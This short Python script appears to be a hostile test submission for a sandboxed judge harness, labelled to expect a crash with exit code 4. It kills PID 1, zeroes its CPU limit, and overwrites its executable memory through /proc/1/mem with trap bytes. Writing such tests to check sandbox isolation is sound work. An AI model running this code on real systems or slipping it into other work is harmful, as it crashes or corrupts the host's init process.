# CRASH exit code 4
import contextlib
import os
import resource
import sys
from pathlib import Path

import speak

dealer, question = speak.asked()
os.kill(1, 9)
with contextlib.suppress(OSError):
    resource.prlimit(1, resource.RLIMIT_CPU, (0, 0))
with contextlib.suppress(OSError):
    maps = Path("/proc/1/maps").read_text().splitlines()
    first, last = (
        int(end, 16) for end in next(line for line in maps if "r-xp" in line).split()[0].split("-")
    )
    with Path("/proc/1/mem").open("r+b", buffering=0) as memory:
        memory.seek(first)
        memory.write(b"\xcc" * (last - first))
sys.exit(4)
